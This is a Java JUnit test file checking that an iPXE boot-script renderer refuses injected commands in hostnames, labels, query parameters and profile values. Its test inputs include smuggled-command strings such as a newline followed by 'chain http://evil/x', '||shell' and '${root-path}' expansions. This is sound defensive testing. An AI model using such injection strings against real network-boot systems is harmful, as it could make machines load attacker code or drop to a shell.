package io.chainboot.script.render;

import io.chainboot.events.DiskKind;
import io.chainboot.events.MacAddress;
import io.chainboot.events.MachineSpec;
import io.chainboot.script.boot.BootFacts;
import io.chainboot.script.profile.ProfileParser;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

import java.time.Instant;
import java.util.HashMap;
import java.util.Map;

import static org.assertj.core.api.Assertions.assertThat;

/** Values from outside cannot add iPXE commands, expand settings or split arguments. */
class InjectionTest {
    static final MacAddress MAC = MacAddress.parse("52:54:00:12:34:56");
    static final RenderContext CTX = new RenderContext("http://10.0.0.1:8081", "10.0.0.1", 3260,
            "iqn.2026-01.io.chainboot", "cluster-secret-for-tests", 10);

    @ParameterizedTest
    @ValueSource(strings = {"ws01\nchain http://evil/x", "ws01\rshell", "${root-path}", "a||shell", "x #c", "a\"b", "a\\b", "tab\tx", "ünï", ""})
    void untrustedTokensAreRefused(String attack) {
        assertThat(IpxeText.isToken(attack)).isFalse();
        assertThat(IpxeText.isWords(attack)).isFalse();
    }

    @ParameterizedTest
    @ValueSource(strings = {"quiet || shell", "quiet && shell", "a  b", " a", "a\nb"})
    void wordsCannotChainCommands(String attack) {
        assertThat(IpxeText.isWords(attack)).isFalse();
    }

    @Test
    void ordinaryValuesPass() {
        assertThat(IpxeText.isToken("iqn.2026-01.io.chainboot:ws01")).isTrue();
        assertThat(IpxeText.isWords("console=ttyS0,115200 quiet root=/dev/sda1")).isTrue();
    }

    @Test
    void echoTextCannotExpandOrBreakTheLine() {
        assertThat(IpxeText.forEcho("bad ${x}\nshell")).isEqualTo("bad ??x??shell");
        assertThat(IpxeText.forEcho("x".repeat(500))).hasSize(200);
    }

    @ParameterizedTest
    @ValueSource(strings = {"hostname", "uuid", "arch", "platform", "profile", "manufacturer", "serial"})
    void queryParametersWithLineBreaksOrExpansionsAreRefused(String param) {
        Map<String, String> q = new HashMap<>();
        q.put("mac", "52-54-00-12-34-56");
        q.put(param, "x\nshell ${root-path}");
        assertThat(BootFacts.parse(q::get).isValid()).as(param).isFalse();
    }

    @Test
    void aMachineParameterWithACommandFailsTheRenderInsteadOfReachingTheScript() {
        MachineSpec spec = new MachineSpec(MAC, null, "ws01", null, null, Map.of(), Map.of("extra", "quiet\nshell"),
                null, null, true, null, Instant.EPOCH);
        var profile = ProfileParser.parse("name: l\nkind: linux\nparams:\n  kernel: k\n  cmdline: \"{params.extra}\"\n", "t").orElseThrow();
        RenderOutcome out = new ScriptRenderer().render(profile, spec, BootFacts.ofMac(MAC), CTX);
        assertThat(out).isInstanceOf(RenderOutcome.Failure.class);
        assertThat(out.script()).doesNotContain("\nshell\n").startsWith("#!ipxe\n");
        assertThat(((RenderOutcome.Failure) out).reason()).contains("machine parameter extra");
    }

    @Test
    void anUnsafeLabelIsNotOfferedToTemplates() {
        MachineSpec spec = new MachineSpec(MAC, null, "ws01", null, null, Map.of("room", "b12\nshell"), Map.of(),
                new MachineSpec.DiskAssignment(DiskKind.RAW, "d", null), null, true, null, Instant.EPOCH);
        var profile = ProfileParser.parse("name: c\nkind: local\ntemplate: \"#!ipxe\\necho {labels.room}\\n\"\n", "t").orElseThrow();
        RenderOutcome out = new ScriptRenderer().render(profile, spec, BootFacts.ofMac(MAC), CTX);
        assertThat(out).isInstanceOf(RenderOutcome.Failure.class);
        assertThat(out.script()).doesNotContain("\nshell");
    }

    @Test
    void aProfileParameterCannotSpanLines() {
        assertThat(ProfileParser.parse("name: c\nkind: chain\nparams:\n  url: \"http://x\\nshell\"\n", "t").isValid()).isFalse();
    }

    @Test
    void anInvalidHostnameCannotEnterAMachineSpec() {
        org.assertj.core.api.Assertions.assertThatThrownBy(() -> new MachineSpec(MAC, null, "ws01\nshell", null, null,
                Map.of(), Map.of(), null, null, true, null, Instant.EPOCH)).isInstanceOf(IllegalArgumentException.class);
    }
}
